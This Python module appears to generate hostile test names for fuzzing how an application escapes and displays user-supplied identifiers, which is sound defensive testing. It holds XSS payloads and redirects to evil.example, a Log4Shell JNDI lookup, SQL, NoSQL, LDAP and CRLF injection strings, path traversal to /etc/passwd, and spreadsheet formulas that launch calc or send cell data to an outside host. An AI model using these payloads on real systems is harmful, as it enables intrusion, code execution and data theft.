"""Names that nobody would wish for: what customers, models, tags and metadata may be called.

Made by rule: what breaks out of a place, times what it would bring in; then what deceives the
eye, a spreadsheet, a path or a template. Each ends in a mark of its own, by which a test finds it
again, and whether all of it is there.
"""
# ruff: noqa: RUF001 - letters that look like others are what this is about

import re
import unicodedata
from itertools import product
from typing import Final

_BREAKS: Final = (
    *("", '"', "'", "`", ">", '">', "'>", "\\'>", "&quot;>", "-->", "]]>", "?>"),
    *("</title>", "</textarea>", "</script>", "</style>", "</option></select>", "</bdi></a>"),
    *("</text></svg>", "<!--", "<![CDATA[", "<plaintext>"),
)
_BROUGHT_IN: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;">',
    "<details open ontoggle=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=csrf>",
    "<a href=javascript:alert(1)>x</a>",
    " onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    " style=position:fixed;inset:0;background:red x=",
    " hx-get=/keys hx-trigger=load data-panel formaction=//evil.example x=",
)
_ADDRESSES: Final = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:x"),
    *(
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "//evil.example",
        "\\\\evil.example",
    ),
    *("https://evil.example/?", "/\t/evil.example", "?user=x&range=1h", "#main", "&lt;b&gt;"),
)
_PATHS: Final = (
    *("../../etc/passwd", "..%2f..%2f", "a/b", "a//b", "/", "a/edit", "%00", "%", "%zz", "a%20b"),
    *("a b", " a", ".", "..", "a;b", "a\\b", "a?b", "a#b", "a+b", "delete", "new-user", "nul"),
)
_TEMPLATES: Final = (
    *("{{ 7 * 7 }}", "{% raw %}", "{{ config }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0}", "%s%n"),
    *("{{''.__class__.__mro__}}", "{# comment #}", "${jndi:ldap://evil.example/a}", "{{{{", "}}"),
)
_INJECTED: Final = (
    *("' OR 1=1 --", '" OR ""="', "'; DROP TABLE events; --", "%_", "\\", "a\0b", "\r\nFLUSHALL"),
    *("\r\nSet-Cookie: a=b", "\x1b[2J\x1b]0;evil\x07", '{"$gt": ""}', '"}],"data":[', "*)(uid=*"),
    *("null", "None", "undefined", "NaN", "__proto__", "constructor", "0", "-0", "1e309", "true"),
)
_DIRECTIONS: Final = tuple(
    f"user{sign}gpj.exe مرحبا"
    for sign in (
        *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
        *("\u202e\u202e\u202e", "\u2069\u202e", "\u2066" * 70),
    )
)
_UNSEEN: Final = tuple(
    f"ad{sign}min"
    for sign in (
        *"\u200b\u200c\u200d\u2060\ufeff\xad\u115f\u3164\u2800\u180e\x7f\x85\u2028\u2029",
        *("\U000e0061" * 9, "\ufe0f", "\b", "\x1f", "\t", "\n", "\r", "\v", "\f"),
    )
)
_STACKS: Final = (
    "e" + "\u0301" * 200,
    "".join(c + "\u0335\u0353\u035c\u0489" * 8 for c in "zalgo"),
    "\u0e01" + "\u0e49" * 150,
    "\ufdfa" * 40,
    "\U0001242b" * 60,
)
_EMOJI: Final = (
    *(
        "🦊" * 120,
        "👩‍👩‍👧‍👦" * 20,
        "🏳️‍🌈🏴‍☠️",
        "👍🏿👍🏻",
        "🇩🇪🇪" * 9,
        "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "1️⃣",
        "\U0010ffff",
        "\ue000",
    ),
)
_LONG: Final = ("x" * 512, "W" * 512, "x y" * 170, "-" * 512, "漢" * 512, "/" * 512, "<" * 512)
_ALIKE: Final = (
    "İstanbul",
    "STRASSE ß",
    "\u212a",
    "ﬃ",
    "раураl",
    "Ａｄｍｉｎ",
    "Å",
    "A\u030a",
    "ſ",
)

SIGNS: Final = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\u2212"
"""What a spreadsheet takes for the beginning of a formula, or skips before one."""

_FORMULAS: Final = (
    *(
        f"{before}{sign}1+1"
        for before, sign in product(("", " ", "\u200b", "\ufeff", "a;", "a\t", "\0"), SIGNS)
    ),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1)', "@SUM(1+1)*cmd|' /C'!A0"),
    *("+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=IMPORTXML(1)", "=1\n=2", "a;=1;=2"),
)

_MARK: Final = re.compile(r"zq(\d+)q")


def _names() -> list[str]:
    found = [
        # Each of both with half of the others: what one finds, its neighbour finds too.
        *(
            how + what
            for (i, how), (j, what) in product(enumerate(_BREAKS), enumerate(_BROUGHT_IN))
            if (i + j) % 2 == 0
        ),
        *(*_ADDRESSES, *_PATHS, *_TEMPLATES, *_INJECTED, *_DIRECTIONS, *_UNSEEN),
        *(*_STACKS, *_EMOJI, *_LONG, *_ALIKE, *_FORMULAS),
    ]
    return [_marked(text, at, 512) for at, text in enumerate(found)]


def _marked(text: str, at: int, length: int) -> str:
    mark = f"zq{at}q"
    return unicodedata.normalize("NFC", text)[: length - len(mark)] + mark


NAMES: Final = _names()
"""Several hundred; of at most 512 characters."""

WORST: Final = [
    name
    for name in NAMES
    if any(name.startswith(text) for text in ('"><', "'>", "</title><", "</text></svg><svg"))
    or any(text in name for text in (*_DIRECTIONS, *_STACKS, *_EMOJI, *_LONG[:4]))
    or name.startswith(("javascript:", "{{", "ad"))
]
"""Those that one page of a browser shows."""


def short(name: str) -> str:
    """The same in as many characters as an identifier or a name may have, with its mark."""
    return name if len(name) <= 256 else _marked(name, int(_MARK.findall(name)[0]), 256)


def named_in(text: str) -> list[int]:
    """The places in `NAMES` of those that have left their mark there."""
    return [int(at) for at in _MARK.findall(text)]
